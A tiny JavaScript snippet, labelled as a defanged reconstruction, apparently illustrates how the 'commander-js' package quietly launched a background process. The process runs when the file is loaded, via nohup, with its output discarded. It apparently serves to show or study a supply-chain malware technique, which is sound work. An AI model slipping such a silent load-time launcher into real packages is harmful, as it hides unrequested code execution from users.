// Defanged: starts a harmless script in the background, as commander-js did.
(function () {
  require('child_process').spawn('BUILD_ID=.temp-build nohup node update.js >/dev/null 2>&1 &',
                                 { stdio: 'inherit', shell: true });
})();
